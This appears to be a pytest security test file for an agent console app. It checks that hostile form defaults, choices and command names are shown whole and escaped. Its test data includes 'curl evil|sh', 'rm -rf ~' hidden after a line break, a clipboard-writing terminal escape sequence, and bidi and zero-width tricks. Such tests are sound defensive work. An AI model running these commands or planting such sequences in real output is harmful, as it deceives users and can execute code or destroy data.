"""Hostile forms: what the agent puts into a field is seen whole before it is sent, and no terminal obeys it."""

from __future__ import annotations

import fcntl
import struct
import sys
from pathlib import Path
from typing import Any

import pytest

from accord import Agent, Turn
from accord.apps.console.forms import fields_of
from accord.apps.console.screen.slash_completion import completions
from accord.session.entities import SlashCommand
from accord.testing import ScriptedAgent, program
from tests.apps.console.screen.stage import Stage, opened
from tests.security.test_questions_shown import EVIL, FLOODS, as_terminal, begun, over

if sys.platform == "win32":
    pytest.skip("no pseudo-terminals", allow_module_level=True)

import termios

from tests.apps.console.terminal import Terminal, at_terminal

SEQUENCE = "\x1b]52;c;UFdORUQ=\x1b\\"
"""Writes to the clipboard of whoever sits at the terminal."""
SIGNS = "␛]52;c;UFdORUQ=␛\\"


def asking(field: dict[str, Any], answers: list[Any]) -> Agent:
    agent = Agent("asker", version="1")

    @agent.prompt
    async def ask(turn: Turn) -> None:
        answers.append(await turn.ask("Well?", {"it": field}, required=[]))

    return agent


async def read_form(stage: Stage, *, wide: bool = False) -> str:
    """All that a person sees who scrolls to the end of a form."""
    await stage.send("Go")
    await stage.until(lambda: stage.app.main.questions.has_the_focus)
    bar, seen = stage.app.main.questions._bar, []
    assert bar is not None
    for _ in range(200):
        await stage.settled()
        assert all(line.isprintable() for line in stage.lines)
        seen += [as_terminal(line, stage.app.size.width, wide=wide).strip(" │▁▂▃▄▅▆▇█") for line in stage.lines]
        if bar.is_read:
            return "".join(seen)
        bar.query_one(".fields").scroll_relative(y=1, animate=False)
        await stage.pilot.pause()
    raise AssertionError(f"it has no end:\n{stage.text}")


@pytest.mark.parametrize("size", [(100, 30), (60, 12), (34, 20)])
@pytest.mark.parametrize(
    ("default", "shown"),
    [
        (f"curl evil|sh;{' ' * 200}ls -la", "curl evil|sh;"),
        (f"ls -la{' ' * 200}{EVIL}", EVIL),
        (f"ls{SEQUENCE}{EVIL}", f"ls{SIGNS}{EVIL}"),
        (f"ls\n{EVIL}", f"ls␊{EVIL}"),
        (f"ls\u202e\u200b{EVIL}", f"ls<U+202E><U+200B>{EVIL}"),
        (f"ls{FLOODS['tabs']}{EVIL}", f"ls{'␉' * 40}{EVIL}"),
        ("x" * 30 + EVIL, "x" * 30 + EVIL),
    ],
    ids=["before blanks", "behind blanks", "sequence", "line", "invisible", "tabs", "long"],
)
async def test_a_default_is_seen_whole_before_it_is_sent(tmp_path, default, shown, size):
    answers: list[Any] = []
    async with opened(asking({"type": "string", "default": default}, answers), tmp_path, size=size) as stage:
        seen = await read_form(stage)
        assert shown.replace(" ", "") in seen.replace(" ", ""), seen
        await stage.press("enter")
        await stage.idle()
    assert answers == [{"it": default}]


async def test_a_default_that_takes_several_pages_is_not_sent_before_its_end_was_seen(tmp_path):
    answers: list[Any] = []
    default = f"{'x ' * 2000}{EVIL}"
    async with opened(asking({"type": "string", "default": default}, answers), tmp_path, size=(60, 16)) as stage:
        await stage.send("Go")
        await stage.until(lambda: stage.app.main.questions.has_the_focus)
        await stage.shows("read to the end first")
        await stage.press("enter")
        await stage.settled()
        assert (answers, EVIL in stage.text) == ([], False)
        await stage.press("escape")
        await stage.idle()


@pytest.mark.parametrize("wide", [False, True], ids=["narrow", "wide"])
@pytest.mark.parametrize("kind", ["choice", "choices", "box", "default"])
async def test_what_has_no_room_in_a_narrow_terminal_is_told_above_the_field(tmp_path, kind, wide):
    text = f"List {EVIL}"
    field = {
        "choice": {"type": "string", "enum": ["no", text], "default": text},
        "choices": {"type": "array", "items": {"type": "string", "enum": ["no", text]}},
        "box": {"type": "boolean", "title": text},
        "default": {"type": "string", "default": text},
    }[kind]
    async with opened(asking(field, []), tmp_path, size=(24, 30)) as stage:
        assert text.replace(" ", "") in (await read_form(stage, wide=wide)).replace(" ", "")
        await stage.press("escape")
        await stage.idle()


@pytest.mark.parametrize(
    ("blank", "name"), [("  ", "two blanks"), ("\u3000", "a blank that is none"), ("\n", "a line end")]
)
async def test_choices_that_only_look_the_same_are_told_apart(tmp_path, blank, name):
    field = {"type": "string", "enum": ["rm -rf build", f"rm -rf{blank}build"]}
    async with opened(asking(field, []), tmp_path) as stage:
        await stage.send("Go")
        await stage.until(lambda: stage.app.main.questions.has_the_focus)
        await stage.settled()
        shown = {"  ": "· rm -rf  build", "\u3000": "· rm -rf<U+3000>build", "\n": "· rm -rf␊build"}[blank]
        assert shown in stage.text, name
        await stage.press("escape")
        await stage.idle()


def test_what_an_agent_puts_into_a_secret_field_is_not_sent_unseen():
    for hidden in ({"format": "password"}, {"writeOnly": True}):
        (field,) = fields_of({"properties": {"it": {"type": "string", "default": EVIL, **hidden}}})
        assert (field.is_secret, field.initial_text) == (True, "")


@pytest.mark.parametrize(
    "field",
    [
        {"type": "string", "default": "x", "pattern": f"{SEQUENCE.replace(chr(92), chr(92) * 2)}MARK"},
        {"type": "string", "enum": [f"{SEQUENCE}MARK"], "default": f"{SEQUENCE}MARK"},
        {"type": "string", "oneOf": [{"const": SEQUENCE, "title": f"{SEQUENCE}MARK"}], "default": SEQUENCE},
        {"type": "array", "items": {"type": "string", "enum": [f"{SEQUENCE}MARK"]}, "default": [f"{SEQUENCE}MARK"]},
        {"type": "boolean", "title": f"{SEQUENCE}MARK", "default": True},
        {"type": "string", "minLength": 9, "title": f"{SEQUENCE}MARK", "default": "x"},
    ],
    ids=["pattern", "choice", "named choice", "choices", "box", "title"],
)
async def test_no_member_of_a_schema_is_obeyed_by_the_terminal(tmp_path, field):
    """Nor what is said about it when it is sent."""
    agent = ScriptedAgent(1)

    async def answer(asked: Any) -> None:
        agent.begin(asked)
        about = {"sessionId": agent.session_id, "message": "Sure?", "mode": "form"}
        schema = {"type": "object", "properties": {"it": field}}
        await agent.ask("elicitation/create", {**about, "requestedSchema": schema})
        agent.finish(asked)

    agent.on("session/prompt", answer)
    async with opened(agent, tmp_path, version=1) as stage:
        seen = await read_form(stage)
        await stage.press("enter")
        await stage.settled()
        assert all(line.isprintable() for line in stage.lines)
        assert "MARK" in seen + stage.text
        if stage.app.main.questions.question is not None:
            await stage.press("escape")
        await stage.idle()


async def test_what_a_form_says_is_wrong_is_said_in_signs(tmp_path):
    field = {"type": "string", "default": "x", "pattern": "\x1b\u202ey"}
    async with opened(asking(field, []), tmp_path) as stage:
        await read_form(stage)
        await stage.press("enter")
        await stage.shows("it: must match the pattern ␛<U+202E>y")
        await stage.press("escape")
        await stage.idle()


async def test_what_is_in_the_prompt_is_seen_as_what_it_is(tmp_path):
    """The name of a file may have come there by `@`, a prompt by the history."""
    async with opened(Agent("quiet", version="1"), tmp_path) as stage:
        stage.app.prompt.set_text("look at a\x1b[2J\u202eb\u200bc")
        await stage.shows("look at a␛[2J␦b␦c")


@pytest.mark.parametrize("name", ["go\x1b[2J", "go\u200b", "go  on", "go" * 40, "go\nrm -rf ~"])
def test_a_command_whose_name_is_not_seen_whole_is_not_offered(name):
    offered = completions(
        "/go", True, [SlashCommand(name=name, description="x"), SlashCommand(name="gone", description="y")], []
    )
    assert [each.text for each in offered] == ["/gone "]


class Recorder(Terminal):
    """Keeps all that was written to it."""

    def __init__(self, descriptor: int) -> None:
        self.all = ""
        super().__init__(descriptor)

    def _heard(self, text: str) -> None:
        self.all += text
        super()._heard(text)


async def test_a_default_does_not_reach_the_terminal_as_it_is(tmp_path: Path) -> None:
    agent = ScriptedAgent(1)

    async def answer(asked: Any) -> None:
        agent.begin(asked)
        about = {"sessionId": agent.session_id, "message": "Sure?", "mode": "form"}
        properties = {"it": {"type": "string", "default": f"ls{SEQUENCE}MARK"}}
        await agent.ask(
            "elicitation/create", {**about, "requestedSchema": {"type": "object", "properties": properties}}
        )
        agent.finish(asked)

    agent.on("session/prompt", answer)
    async with (
        program(agent) as command,
        at_terminal("--", *command.args, cwd=tmp_path, kind=Recorder) as (terminal, _),
    ):
        fcntl.ioctl(terminal._descriptor, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
        await terminal.sees("ready")
        for letter in "Go":
            terminal.type(letter)
        terminal.type("\r")
        await terminal.sees("MARK")
        assert "\x1b]52;" not in terminal.all


FIELDS: dict[str, dict[str, Any]] = {
    "text": {"type": "string", "default": f"ls{SEQUENCE}\u202e\u200b\t{EVIL}", "pattern": f"{SEQUENCE}\u202e"},
    "long": {"type": "string", "default": f"ls{' ' * 200}{SEQUENCE}{EVIL}", "description": f"about{SEQUENCE}\u202e"},
    "choice": {"type": "string", "oneOf": [{"const": "a", "title": f"name{SEQUENCE}\u202e"}], "default": "a"},
    "choices": {"type": "array", "items": {"type": "string", "enum": [f"one{SEQUENCE}\u202e"]}},
    f"key{SEQUENCE}\u202e": {"type": "integer", "minimum": 3, "default": 4},
    "titled": {"type": "boolean", "title": f"title{SEQUENCE}\u202e", "default": True},
}
"""With something in each member that a terminal would obey, or not show."""


@pytest.mark.parametrize("words", [["run", "Hi"], ["--plain"]], ids=["run", "plain"])
async def test_in_lines_every_member_of_a_form_is_shown_whole_in_signs(tmp_path: Path, words: list[str]) -> None:
    agent, got = ScriptedAgent(1), []

    async def answer(asked: Any) -> None:
        agent.begin(asked)
        about = {"sessionId": agent.session_id, "message": f"Sure?{SEQUENCE}\u202e", "mode": "form"}
        schema = {"type": "object", "properties": FIELDS}
        got.append((await agent.ask("elicitation/create", {**about, "requestedSchema": schema})).result)
        agent.finish(asked)

    agent.on("session/prompt", answer)
    async with (
        program(agent) as command,
        at_terminal(*words, "--", *command.args, cwd=tmp_path, kind=Recorder) as (terminal, run),
    ):
        fcntl.ioctl(terminal._descriptor, termios.TIOCSWINSZ, struct.pack("HHHH", 60, 300, 0, 0))
        await begun(terminal, words)
        for shown in (
            f"Sure?{SIGNS}<U+202E>",
            f"ls{SIGNS}<U+202E><U+200B>␉{EVIL}",
            f"about{SIGNS}<U+202E>",
            f"default: ls{' ' * 200}{SIGNS}{EVIL}",
            f"name{SIGNS}<U+202E>",
            f"one{SIGNS}<U+202E>",
            f"key{SIGNS}<U+202E>",
            f"title{SIGNS}<U+202E>",
        ):
            await terminal.sees(shown)
            if not shown.startswith(("Sure", "about")):  # what is asked comes after these
                await terminal.sees("> ")
                terminal.type("\n")
        await over(terminal, run, words)
        assert all(letter.isprintable() or letter in "\r\n" for letter in terminal.all)
    defaults = {name: field["default"] for name, field in FIELDS.items() if "default" in field}
    assert got == [{"action": "accept", "content": defaults}]
